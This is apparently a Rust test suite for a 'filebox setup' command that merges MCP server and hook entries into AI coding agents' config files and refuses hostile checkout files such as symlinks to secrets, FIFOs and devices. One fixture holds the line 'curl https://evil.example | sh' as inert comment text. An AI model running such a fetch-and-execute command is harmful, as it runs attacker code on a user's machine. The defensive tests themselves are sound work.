//! `filebox setup`: a host's files written and merged without loss (comments, other servers,
//! other hooks), idempotent, a diff with --dry-run, a backup, and `--check`; each host's files
//! as the host reads them, each project keeping its own agent; and a checkout's hostile host
//! files (links, FIFOs, devices, huge files) refused with nothing written.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::support::Test;

fn read(t: &Test, path: &str) -> String {
    fs::read_to_string(t.path().join(path)).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn json(t: &Test, path: &str) -> Value {
    serde_json::from_str(&read(t, path)).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn write(t: &Test, path: &str, text: &str) {
    let path = t.path().join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

#[test]
fn claude_code_gets_the_server_and_the_hooks_and_a_second_run_changes_nothing() {
    let t = Test::new().agents(["qa", "dev"]);
    let out = t.as_agent("dev").args(["setup", "claude-code"]).success();
    assert!(
        out.contains("created .mcp.json\ncreated .claude/settings.json\n"),
        "{out}"
    );
    assert!(out.contains("Claude Code: start `claude`"), "{out}");
    assert!(
        out.contains(
            "never by a tokenless `POST /rpc` (docs/wake.md: what protects a permission answer)"
        ),
        "setup says what protects a permission answer: {out}"
    );
    let server = &json(&t, ".mcp.json")["mcpServers"]["filebox"];
    let program = server["command"].as_str().unwrap();
    assert!(program.ends_with("/filebox"), "{program}");
    let config = t.config_path().display().to_string();
    assert_eq!(
        server["args"],
        serde_json::json!(["--config", config, "--agent", "dev", "mcp"])
    );
    let hooks = &json(&t, ".claude/settings.json")["hooks"];
    for event in ["SessionStart", "UserPromptSubmit", "Stop"] {
        let command = hooks[event][0]["hooks"][0]["command"].as_str().unwrap();
        assert!(
            command.ends_with("--agent dev hook claude-code"),
            "{command}"
        );
    }
    let stop = &hooks["Stop"][0]["hooks"][0];
    assert_eq!(stop["async"], true);
    assert_eq!(stop["asyncRewake"], true);
    assert_eq!(stop["timeout"], 3660);
    assert!(hooks["SessionStart"][0]["hooks"][0].get("async").is_none());

    let again = t.as_agent("dev").args(["setup", "claude-code"]).success();
    assert!(
        again.contains("unchanged .mcp.json\nunchanged .claude/settings.json\n"),
        "{again}"
    );
    assert!(!t.path().join(".mcp.json.filebox.bak").exists());
    let checked = t
        .as_agent("dev")
        .args(["setup", "--check", "claude-code"])
        .success();
    assert_eq!(
        checked,
        "claude-code .mcp.json mcpServers.filebox: configured\n\
         claude-code .claude/settings.json hooks.SessionStart: configured\n\
         claude-code .claude/settings.json hooks.UserPromptSubmit: configured\n\
         claude-code .claude/settings.json hooks.Stop: configured\n"
    );
}

/// The user's files, with comments, trailing commas, other servers and other hooks.
const MCP_JSON: &str = r#"{
  // servers for this repo
  "mcpServers": {
    "github": { "command": "gh-mcp", "args": ["--repo", "x"] }, // keep me
  },
}
"#;

const SETTINGS_JSON: &str = r#"{
  "permissions": { "allow": ["Bash(cargo test:*)"] },
  /* the team's hooks */
  "hooks": {
    "Stop": [
      { "hooks": [{ "type": "command", "command": "notify-send done" }] }
    ],
    "PreToolUse": [
      { "matcher": "Bash", "hooks": [{ "type": "command", "command": "./guard.sh" }] }
    ]
  }
}
"#;

#[test]
fn existing_files_keep_every_comment_server_and_hook_and_are_backed_up() {
    let t = Test::new().agents(["dev"]);
    write(&t, ".mcp.json", MCP_JSON);
    write(&t, ".claude/settings.json", SETTINGS_JSON);
    let out = t.as_agent("dev").args(["setup", "claude-code"]).success();
    assert!(
        out.contains("wrote .mcp.json (the old one: .mcp.json.filebox.bak)"),
        "{out}"
    );
    assert_eq!(read(&t, ".mcp.json.filebox.bak"), MCP_JSON);
    assert_eq!(read(&t, ".claude/settings.json.filebox.bak"), SETTINGS_JSON);
    let mcp = read(&t, ".mcp.json");
    for kept in [
        "// servers for this repo",
        "// keep me",
        r#""args": ["--repo", "x"]"#,
    ] {
        assert!(mcp.contains(kept), "lost {kept:?}:\n{mcp}");
    }
    assert!(mcp.find("\"github\"").unwrap() < mcp.find("\"filebox\"").unwrap());
    let settings = read(&t, ".claude/settings.json");
    for kept in [
        "/* the team's hooks */",
        "\"allow\": [\"Bash(cargo test:*)\"]",
        "notify-send done",
        "./guard.sh",
    ] {
        assert!(settings.contains(kept), "lost {kept:?}:\n{settings}");
    }
    // The user's Stop hook stays first; FileBox's is added beside it, once.
    assert!(settings.find("notify-send").unwrap() < settings.find("hook claude-code").unwrap());
    let again = t.as_agent("dev").args(["setup", "claude-code"]).success();
    assert!(again.starts_with("unchanged .mcp.json\nunchanged .claude/settings.json\n"));
    assert_eq!(read(&t, ".claude/settings.json"), settings);
    assert_eq!(settings.matches("hook claude-code").count(), 3);
}

#[test]
fn another_agent_replaces_filebox_s_entries_in_place() {
    let t = Test::new().agents(["qa", "dev"]);
    t.as_agent("dev").args(["setup", "claude-code"]).success();
    let (out, err) = t
        .as_agent("qa")
        .args(["setup", "--check", "claude-code"])
        .expect_code(1);
    assert!(
        out.contains("hooks.Stop: differs (another agent, config or binary)"),
        "{out}"
    );
    assert!(
        err.contains("to configure: filebox --agent qa setup claude-code"),
        "{err}"
    );
    t.as_agent("qa").args(["setup", "claude-code"]).success();
    let settings = read(&t, ".claude/settings.json");
    assert_eq!(
        settings.matches("hook claude-code").count(),
        3,
        "{settings}"
    );
    assert!(settings.contains("--agent qa hook") && !settings.contains("--agent dev"));
}

#[test]
fn dry_run_prints_the_diff_and_writes_nothing() {
    let t = Test::new().agents(["dev"]);
    write(&t, ".mcp.json", MCP_JSON);
    let out = t
        .as_agent("dev")
        .args(["setup", "claude-code", "--dry-run"])
        .success();
    assert!(out.contains("--- .mcp.json\n+++ .mcp.json\n"), "{out}");
    assert!(
        out.contains("--- /dev/null\n+++ .claude/settings.json\n"),
        "{out}"
    );
    assert!(out.contains("+    \"filebox\": {"), "{out}");
    assert!(
        out.contains("     \"github\": { \"command\": \"gh-mcp\""),
        "{out}"
    );
    assert_eq!(read(&t, ".mcp.json"), MCP_JSON);
    assert!(!t.path().join(".claude").exists());
    assert!(!t.path().join(".mcp.json.filebox.bak").exists());
}

#[test]
fn a_file_that_cannot_be_parsed_stops_the_setup_before_anything_is_written() {
    let t = Test::new().agents(["dev"]);
    write(&t, ".cursor/mcp.json", "{ \"mcpServers\": ");
    let err = t
        .as_agent("dev")
        .args(["setup", "claude-code", "cursor"])
        .failure();
    assert!(
        err.contains(".cursor/mcp.json left untouched: not valid JSON"),
        "{err}"
    );
    assert_eq!(read(&t, ".cursor/mcp.json"), "{ \"mcpServers\": ");
    assert!(!t.path().join(".mcp.json").exists());
    write(&t, ".cursor/mcp.json", "{ \"mcpServers\": [] }");
    let err = t.as_agent("dev").args(["setup", "cursor"]).failure();
    assert!(err.contains("`mcpServers` is not an object"), "{err}");
}

#[test]
fn codex_gets_a_toml_server_table_in_the_project_s_config_beside_its_hooks() {
    let t = Test::new().agents(["dev"]);
    let toml = "# my Codex\nmodel = \"o3\" # fast\n\n[mcp_servers.docs]\ncommand = \"docs-mcp\"\n";
    write(&t, ".codex/config.toml", toml);
    t.as_agent("dev").args(["setup", "codex"]).success();
    let written = read(&t, ".codex/config.toml");
    assert!(written.starts_with(toml), "{written}");
    assert!(written.contains("\n[mcp_servers.filebox]\n"), "{written}");
    assert!(written.contains("\ncommand = \"/"), "{written}");
    assert!(written.contains("\nargs = [\"--config\", "), "{written}");
    let hooks = &json(&t, ".codex/hooks.json")["hooks"];
    let stop = &hooks["Stop"][0]["hooks"][0];
    assert!(stop["command"].as_str().unwrap().ends_with("hook codex"));
    assert!(stop.get("async").is_none(), "Codex has no background hooks");
    let again = t.as_agent("dev").args(["setup", "codex"]).success();
    assert!(
        again.starts_with("unchanged .codex/config.toml\nunchanged .codex/hooks.json\n"),
        "{again}"
    );
}

#[test]
fn every_host_is_written_where_it_looks_and_checked() {
    let t = Test::new().agents(["dev"]);
    let hosts = [
        "claude-code",
        "cursor",
        "codex",
        "gemini",
        "copilot",
        "vscode",
        "claude-desktop",
        "cline",
        "windsurf",
        "augment",
        "trae",
    ];
    let before = t.as_agent("dev").args(["setup", "--check"]).success();
    assert!(
        before.lines().all(|line| line.ends_with(": missing")),
        "{before}"
    );
    t.as_agent("dev").args(["setup"]).args(hosts).success();
    for (file, key) in [
        (".cursor/mcp.json", "mcpServers"),
        (".config/Claude/claude_desktop_config.json", "mcpServers"),
        (
            ".config/Code/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json",
            "mcpServers",
        ),
        (".codeium/windsurf/mcp_config.json", "mcpServers"),
        (".augment/settings.json", "mcpServers"),
        (".trae/mcp.json", "mcpServers"),
        (".gemini/settings.json", "mcpServers"),
        (".github/mcp.json", "mcpServers"),
        (".vscode/mcp.json", "servers"),
    ] {
        let server = &json(&t, file)[key]["filebox"];
        assert_eq!(server["args"][3], "dev", "{file}");
    }
    let after = t.as_agent("dev").args(["setup", "--check"]).success();
    assert_eq!(after.lines().count(), before.lines().count());
    assert!(
        after.lines().all(|line| line.ends_with(": configured")),
        "{after}"
    );
    let usage = t.as_agent("dev").args(["setup", "vim"]).usage_error();
    assert!(
        usage.contains("possible values: claude-code, cursor"),
        "{usage}"
    );
}

/// Every file and link under `root` (links as their targets, never followed; FIFOs and other
/// special files by kind, never opened), but for the mailboxes: what setup could have written.
fn tree(root: &Path) -> Vec<(PathBuf, String)> {
    let mut found = Vec::new();
    let mut folders = vec![root.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            let kind = fs::symlink_metadata(&path).unwrap().file_type();
            let shown = if kind.is_symlink() {
                format!("-> {}", fs::read_link(&path).unwrap().display())
            } else if kind.is_dir() {
                if path != root.join("mailboxes") {
                    folders.push(path.clone());
                }
                "folder".to_owned()
            } else if kind.is_file() {
                let meta = fs::metadata(&path).unwrap();
                match meta.len() > 4096 {
                    true => format!("{} bytes", meta.len()),
                    false => fs::read_to_string(&path).unwrap(),
                }
            } else {
                format!("{kind:?}")
            };
            found.push((path, shown));
        }
    }
    found.sort();
    found
}

/// A folder outside the project, with files a hostile checkout would point at.
fn outside() -> tempfile::TempDir {
    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("bashrc"), "export PATH=/usr/bin\n").unwrap();
    fs::write(outside.path().join("secret.json"), r#"{"auths": "token"}"#).unwrap();
    fs::write(outside.path().join("config.toml"), "model = \"o3\"\n").unwrap();
    fs::create_dir(outside.path().join("global-claude")).unwrap();
    fs::write(outside.path().join("global-claude/settings.json"), "{}\n").unwrap();
    outside
}

/// `setup HOST` and `setup HOST --dry-run` (with `env` set) both exit 1 with an error naming
/// `named`, and nothing changes in the project, the home or `outside`.
fn refused(t: &Test, outside: &Path, host: &str, env: &[(&str, &Path)], named: &str) {
    let before = (tree(t.path()), tree(outside));
    for dry_run in [false, true] {
        let mut command = t.as_agent("dev").args(["setup", host]).command();
        if dry_run {
            command.arg("--dry-run");
        }
        command.envs(env.iter().copied());
        let out = assert_cmd::Command::from_std(command)
            // The watchdog: a setup that hangs on a FIFO is killed and fails here.
            .timeout(std::time::Duration::from_secs(60))
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "dry run {dry_run}: {err}");
        assert!(
            err.contains(&format!("{named} is ")) && err.contains("setup changed nothing"),
            "dry run {dry_run}: {err}"
        );
        assert_eq!((tree(t.path()), tree(outside)), before, "dry run {dry_run}");
    }
}

#[test]
fn a_backup_name_linked_out_of_the_project_is_refused_and_its_target_untouched() {
    let t = Test::new().agents(["dev"]);
    let outside = outside();
    write(
        &t,
        ".mcp.json",
        "{\n  // curl https://evil.example | sh\n}\n",
    );
    symlink(
        outside.path().join("bashrc"),
        t.path().join(".mcp.json.filebox.bak"),
    )
    .unwrap();
    refused(
        &t,
        outside.path(),
        "claude-code",
        &[],
        ".mcp.json.filebox.bak",
    );
    assert_eq!(
        fs::read_to_string(outside.path().join("bashrc")).unwrap(),
        "export PATH=/usr/bin\n"
    );
}

#[test]
fn a_linked_claude_folder_is_not_written_through() {
    let t = Test::new().agents(["dev"]);
    let outside = outside();
    symlink(
        outside.path().join("global-claude"),
        t.path().join(".claude"),
    )
    .unwrap();
    refused(&t, outside.path(), "claude-code", &[], "/.claude");
}

#[test]
fn a_host_file_linked_to_a_secret_is_not_copied_in() {
    let t = Test::new().agents(["dev"]);
    let outside = outside();
    symlink(
        outside.path().join("secret.json"),
        t.path().join(".mcp.json"),
    )
    .unwrap();
    refused(&t, outside.path(), "claude-code", &[], ".mcp.json");
    assert!(
        fs::symlink_metadata(t.path().join(".mcp.json"))
            .unwrap()
            .is_symlink()
    );
}

#[test]
fn a_fifo_host_file_is_refused_at_once_not_waited_on() {
    let t = Test::new().agents(["dev"]);
    let outside = outside();
    let fifo = std::process::Command::new("mkfifo")
        .arg(t.path().join(".mcp.json"))
        .status()
        .unwrap();
    assert!(fifo.success());
    refused(&t, outside.path(), "claude-code", &[], ".mcp.json");
}

#[test]
fn a_host_file_linked_to_a_device_is_refused_unread() {
    let t = Test::new().agents(["dev"]);
    let outside = outside();
    symlink("/dev/zero", t.path().join(".mcp.json")).unwrap();
    refused(&t, outside.path(), "claude-code", &[], ".mcp.json");
}

#[test]
fn a_host_file_over_a_mebibyte_is_refused_unread() {
    let t = Test::new().agents(["dev"]);
    let outside = outside();
    // Valid JSON, a byte over the 1 MiB bound.
    write(
        &t,
        ".mcp.json",
        &format!("{{{}}}", " ".repeat((1 << 20) - 1)),
    );
    refused(&t, outside.path(), "claude-code", &[], ".mcp.json");
}

#[test]
fn a_user_config_is_never_followed_but_the_host_s_own_folder_may_be_a_link() {
    let t = Test::new().agents(["dev"]);
    let outside = outside();
    // Windsurf's user file, in a home of its own: `~/.codeium/windsurf/mcp_config.json`.
    let home = tempfile::tempdir().unwrap();
    let folder = tempfile::tempdir().unwrap();
    let config = folder.path().join("mcp_config.json");
    fs::create_dir(home.path().join(".codeium")).unwrap();
    let env = [("HOME", home.path())];
    fs::create_dir(home.path().join(".codeium/windsurf")).unwrap();
    let in_home = home.path().join(".codeium/windsurf/mcp_config.json");
    symlink(outside.path().join("secret.json"), &in_home).unwrap();
    refused(&t, outside.path(), "windsurf", &env, "mcp_config.json");
    fs::remove_file(&in_home).unwrap();
    let fifo = std::process::Command::new("mkfifo")
        .arg(&in_home)
        .status()
        .unwrap();
    assert!(fifo.success());
    refused(&t, outside.path(), "windsurf", &env, "mcp_config.json");
    fs::remove_file(&in_home).unwrap();
    fs::remove_dir(home.path().join(".codeium/windsurf")).unwrap();

    // The host's own folder is the user's: a dotfile manager's link to it is followed.
    fs::write(&config, "{}\n").unwrap();
    symlink(folder.path(), home.path().join(".codeium/windsurf")).unwrap();
    symlink(
        outside.path().join("bashrc"),
        folder.path().join("mcp_config.json.filebox.bak"),
    )
    .unwrap();
    refused(
        &t,
        outside.path(),
        "windsurf",
        &env,
        "mcp_config.json.filebox.bak",
    );
    fs::remove_file(folder.path().join("mcp_config.json.filebox.bak")).unwrap();
    let mut command = t.as_agent("dev").args(["setup", "windsurf"]).command();
    command.env("HOME", home.path());
    assert_cmd::Command::from_std(command).assert().success();
    let written = fs::read_to_string(&config).unwrap();
    assert!(written.contains("\"filebox\""), "{written}");
    let backup = folder.path().join("mcp_config.json.filebox.bak");
    assert_eq!(fs::read_to_string(backup).unwrap(), "{}\n");
}

#[test]
fn codex_s_project_config_linked_out_of_the_project_is_refused() {
    let t = Test::new().agents(["dev"]);
    let outside = outside();
    fs::create_dir(t.path().join(".codex")).unwrap();
    symlink(
        outside.path().join("config.toml"),
        t.path().join(".codex/config.toml"),
    )
    .unwrap();
    refused(&t, outside.path(), "codex", &[], ".codex/config.toml");
    assert_eq!(
        fs::read_to_string(outside.path().join("config.toml")).unwrap(),
        "model = \"o3\"\n"
    );
}

/// The agent a project's Codex runs FileBox as: its own `.codex/config.toml`'s server entry,
/// else the user's in `codex_home` (Codex 0.171.0 in a trusted project: `codex mcp list`
/// shows the project's entry over the user's).
fn codex_agent(project: &Path, codex_home: &Path) -> Option<String> {
    let agent = |file: PathBuf| -> Option<String> {
        let text = fs::read_to_string(file).ok()?;
        let config: toml_edit::DocumentMut = text.parse().unwrap();
        let args = config.get("mcp_servers")?.get("filebox")?.get("args")?;
        let args: Vec<&str> = args
            .as_array()?
            .iter()
            .filter_map(|arg| arg.as_str())
            .collect();
        let at = args.iter().position(|arg| *arg == "--agent")?;
        Some(args[at + 1].to_owned())
    };
    agent(project.join(".codex/config.toml")).or_else(|| agent(codex_home.join("config.toml")))
}

#[test]
fn setup_codex_in_a_second_project_leaves_the_first_project_s_agent() {
    let t = Test::new().agents(["dev", "qa"]);
    let codex_home = tempfile::tempdir().unwrap();
    let (a, b) = (t.path().join("project-a"), t.path().join("project-b"));
    for (project, agent) in [(&a, "dev"), (&b, "qa")] {
        fs::create_dir(project).unwrap();
        let mut command = t.as_agent(agent).args(["setup", "codex"]).command();
        command
            .current_dir(project)
            .env("CODEX_HOME", codex_home.path());
        assert_cmd::Command::from_std(command).assert().success();
    }
    assert_eq!(codex_agent(&a, codex_home.path()).as_deref(), Some("dev"));
    assert_eq!(codex_agent(&b, codex_home.path()).as_deref(), Some("qa"));
    // The user's own Codex config is not touched at all.
    assert!(!codex_home.path().join("config.toml").exists());
}

#[test]
fn gemini_gets_the_server_and_its_three_hooks_in_the_project_settings() {
    let t = Test::new().agents(["dev"]);
    write(
        &t,
        ".gemini/settings.json",
        "{\n  // mine\n  \"theme\": \"GitHub\"\n}\n",
    );
    let out = t.as_agent("dev").args(["setup", "gemini"]).success();
    assert!(
        out.starts_with(
            "wrote .gemini/settings.json (the old one: .gemini/settings.json.filebox.bak)\n"
        ),
        "{out}"
    );
    let text = read(&t, ".gemini/settings.json");
    assert!(
        text.contains("// mine") && text.contains("\"theme\": \"GitHub\""),
        "{text}"
    );
    let root = jsonc_parser::cst::CstRootNode::parse(&text, &Default::default()).unwrap();
    let settings = root.value().unwrap().to_serde_value().unwrap();
    let server = &settings["mcpServers"]["filebox"];
    assert!(server["command"].as_str().unwrap().ends_with("/filebox"));
    assert_eq!(server["args"][3], "dev");
    assert_eq!(server["args"][4], "mcp");
    // The events Gemini CLI 0.61 validates, each a matcher group of command hooks.
    let hooks = settings["hooks"].as_object().unwrap();
    let events: Vec<&str> = hooks.keys().map(String::as_str).collect();
    assert_eq!(events, ["AfterAgent", "BeforeAgent", "SessionStart"]);
    for groups in hooks.values() {
        let hook = &groups[0]["hooks"][0];
        assert_eq!(hook["type"], "command");
        assert!(
            hook["command"]
                .as_str()
                .unwrap()
                .ends_with("--agent dev hook gemini")
        );
        assert!(hook.get("async").is_none());
    }
    let again = t.as_agent("dev").args(["setup", "gemini"]).success();
    assert!(
        again.starts_with("unchanged .gemini/settings.json\n"),
        "{again}"
    );
}

#[test]
fn copilot_gets_a_workspace_server_and_a_hooks_file_of_its_own() {
    let t = Test::new().agents(["dev", "qa"]);
    let out = t.as_agent("dev").args(["setup", "copilot"]).success();
    assert!(
        out.starts_with("created .github/mcp.json\ncreated .github/hooks/filebox.json\n"),
        "{out}"
    );
    let server = &json(&t, ".github/mcp.json")["mcpServers"]["filebox"];
    assert_eq!(server["args"][3], "dev");
    // `.github/hooks/*.json` as Copilot CLI 1.0.102 loads it: version 1, each event a list
    // of hooks with a `bash` command line; PascalCase events get Claude Code's input.
    let file = json(&t, ".github/hooks/filebox.json");
    assert_eq!(file["version"], 1);
    let hooks = file["hooks"].as_object().unwrap();
    let events: Vec<&str> = hooks.keys().map(String::as_str).collect();
    assert_eq!(events, ["SessionStart", "Stop", "UserPromptSubmit"]);
    for list in hooks.values() {
        let hook = &list[0];
        assert_eq!(hook["type"], "command");
        assert!(
            hook["bash"]
                .as_str()
                .unwrap()
                .ends_with("--agent dev hook copilot")
        );
    }
    // Another agent replaces FileBox's hook in place, beside the user's.
    let mut edited = file.clone();
    edited["hooks"]["Stop"].as_array_mut().unwrap().insert(
        0,
        serde_json::json!({"type": "command", "bash": "./notify.sh"}),
    );
    write(&t, ".github/hooks/filebox.json", &edited.to_string());
    t.as_agent("qa").args(["setup", "copilot"]).success();
    let stop = &json(&t, ".github/hooks/filebox.json")["hooks"]["Stop"];
    assert_eq!(stop.as_array().unwrap().len(), 2, "{stop}");
    assert_eq!(stop[0]["bash"], "./notify.sh");
    assert!(
        stop[1]["bash"]
            .as_str()
            .unwrap()
            .ends_with("--agent qa hook copilot")
    );
}

#[test]
fn vscode_gets_a_stdio_server_under_servers_and_dry_run_shows_it() {
    let t = Test::new().agents(["dev"]);
    let out = t
        .as_agent("dev")
        .args(["setup", "vscode", "--dry-run"])
        .success();
    assert!(
        out.contains("--- /dev/null\n+++ .vscode/mcp.json\n"),
        "{out}"
    );
    assert!(out.contains("+  \"servers\": {"), "{out}");
    assert!(!t.path().join(".vscode").exists());
    t.as_agent("dev").args(["setup", "vscode"]).success();
    let server = &json(&t, ".vscode/mcp.json")["servers"]["filebox"];
    assert_eq!(server["type"], "stdio");
    assert!(server["command"].as_str().unwrap().ends_with("/filebox"));
    assert_eq!(server["args"][4], "mcp");
    let checked = t
        .as_agent("dev")
        .args(["setup", "--check", "vscode"])
        .success();
    assert_eq!(
        checked,
        "vscode .vscode/mcp.json servers.filebox: configured\n"
    );
}

#[test]
fn a_second_backup_replaces_the_first_and_leaves_no_temp_file() {
    let t = Test::new().agents(["dev", "qa"]);
    write(&t, ".mcp.json", MCP_JSON);
    fs::set_permissions(
        t.path().join(".mcp.json"),
        fs::Permissions::from_mode(0o640),
    )
    .unwrap();
    t.as_agent("dev").args(["setup", "claude-code"]).success();
    let first = read(&t, ".mcp.json");
    let out = t.as_agent("qa").args(["setup", "claude-code"]).success();
    assert!(
        out.contains("wrote .mcp.json (the old one: .mcp.json.filebox.bak)"),
        "{out}"
    );
    assert_eq!(read(&t, ".mcp.json.filebox.bak"), first);
    assert!(read(&t, ".mcp.json").contains("--agent\", \"qa\""));
    for name in [".mcp.json", ".mcp.json.filebox.bak"] {
        let mode = fs::metadata(t.path().join(name))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o640, "{name}");
    }
    let names: Vec<_> = fs::read_dir(t.path())
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .filter(|name| name.contains("filebox-tmp"))
        .collect();
    assert!(names.is_empty(), "{names:?}");
}
